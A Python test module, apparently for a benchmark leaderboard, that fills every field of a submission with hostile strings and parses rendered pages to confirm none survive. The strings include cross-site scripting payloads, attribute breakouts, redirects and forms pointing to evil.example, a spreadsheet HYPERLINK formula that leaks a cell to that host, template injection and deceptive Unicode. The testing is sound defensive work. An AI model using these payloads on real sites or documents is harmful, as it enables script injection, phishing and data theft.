"""Submissions by somebody who wants more than a place in a table."""

import json
import shutil
from html.parser import HTMLParser

import yaml

from mibench.data.store import DataFolder
from mibench.scoring.rows import read_rows
from tests.builders import opened

MARK = "evil-mark"
"""Stands in every hostile text, as the name of an element and of attributes: no page may hold either."""

IMITATION = (
    '</q></li></ol></td></tr></table></main><evil-mark id="content"><h1>mibench leaderboard</h1>'
    '<table><tr><th scope="row"><a href="https://evil.example/">We won</a></th><td>100.00</td></tr></table>'
)
TEXTS = {
    "script": '<evil-mark></evil-mark><script>alert("evil")</script>',
    "end of a script": '</script><script>alert("evil")</script><evil-mark>',
    "end of an attribute": '" onmouseover="alert(1)" evil-mark="1" x="',
    "end of another attribute": "' onfocus='alert(1)' autofocus evil-mark='1' x='",
    "picture": '<img src="https://evil.example/a.png" onerror=alert(1)><evil-mark>',
    "drawing": '<svg onload="alert(1)"><evil-mark><style>*{display:none}</style></svg>',
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe><base href="https://evil.example/"><evil-mark>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/"><evil-mark>',
    "link": '<a href="javascript:alert(1)">javascript:alert(1)</a><evil-mark>',
    "form": '<form action="https://evil.example/"><input name="evil-mark" autofocus></form><evil-mark>',
    "comment": "<!-- <evil-mark> --!> ]]> <![CDATA[ <evil-mark>",
    "template": "{{ 7*7 }}{% raw %}${7*7}`alert(1)`<evil-mark>",
    "lines of JavaScript": "\u2028alert(1)\u2029*/alert(2)/*<evil-mark>\\u003cevil-mark\\u003e\\",
    "other direction": "\u202egnp.exe\u202c \u2066safe\u2069 \u200b\u200f\ufeff<evil-mark>",
    "nothing to see": "a\u00ad\u034f\u115f\u180e\u3164\uffa0\U000e0001\U000e0041\U000e007f<evil-mark>",
    "control characters": "a\x00b\x1b[31m\x07\x7f\x85<evil-mark>",
    "names of objects": "__proto__",
    "formula": '=HYPERLINK("https://evil.example/?"&A1;"evil-mark")',
    "imitation": IMITATION,
    "unending word": "W" * 180,
    "marks upon marks": "Z" + "\u0301" * 150,
}


def fill(folder, text):
    """Put a text wherever a submission may hold one of its own, in all files."""
    name = f"{text[:190]} as name"
    about = yaml.safe_load((folder / "submission.yaml").read_text(encoding="utf-8"))
    about |= {"created": "2026-03-01T00:00:00Z", "name": name, "adapter": text, "decoding": {text: text}}
    about |= {"harness": text, "own_words": [text]}
    about["model"] |= {"name": text, "revision": text}
    (folder / "submission.yaml").write_text(yaml.safe_dump(about, allow_unicode=True), encoding="utf-8")
    scores = json.loads((folder / "scores.json").read_text(encoding="utf-8"))
    scores |= {"signature": text}
    scores["summary"] |= {"notes": [text], "missing": [], "at_chance": [text]}
    scores["digests"]["metrics"] = {text: text}
    for task in scores["tasks"].values():
        primary = task["metrics"][task["primary"]]
        primary |= {"notes": [text], "signature": text}
        task["metrics"][text] = primary
        task["robustness"]["notes"] = [text]
    (folder / "scores.json").write_text(json.dumps(scores), encoding="utf-8")
    session = {
        "command": text,
        "started": text,
        "ended": text,
        "python": text,
        "packages": {text: text},
        "device": text,
        "engine": text,
        "batch_size": text,
        "seed": 0,
        "usage": {text: 1.0},
    }
    (folder / "run.json").write_text(json.dumps({"format": 1, "sessions": [session]}), encoding="utf-8")
    for file in (folder / "predictions").iterdir():
        lines = [json.loads(line) for line in file.read_text(encoding="utf-8").splitlines()]
        first = [line | {"prediction": text} for line in lines[:5]]
        file.write_text("".join(json.dumps(line) + "\n" for line in [*first, *lines[5:]]), encoding="utf-8")


def hostile_submission(sample, folder, text):
    """Write a complete submission with a text everywhere, among others as the answers to each task's first row."""
    shutil.copytree(sample / "submissions" / "always-yes", folder)
    fill(folder, text)
    acknowledge(folder, sample)


def acknowledge(folder, sample):
    """Let `scores.json` name the answers that there are now, as if they had been scored."""
    scores = json.loads((folder / "scores.json").read_text(encoding="utf-8"))
    submission = opened(folder, DataFolder(sample / "world"))
    for card in submission.cards:
        scores["digests"]["predictions"][card.name] = read_rows(submission, card).digest
    assert not submission.faults
    (folder / "scores.json").write_text(json.dumps(scores), encoding="utf-8")


class Skeleton(HTMLParser):
    """The elements of a page with the names of their attributes, and where its links lead: all but its texts."""

    def __init__(self, page):
        super().__init__()
        self.parts, self.links = [], []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.parts.append((tag, *(name for name, _ in attrs)))
        self.links += [value for name, value in attrs if name in {"href", "src", "action", "formaction", "srcset"}]

    def handle_endtag(self, tag):
        self.parts.append(tag)

    def handle_comment(self, data):
        self.parts.append("comment")
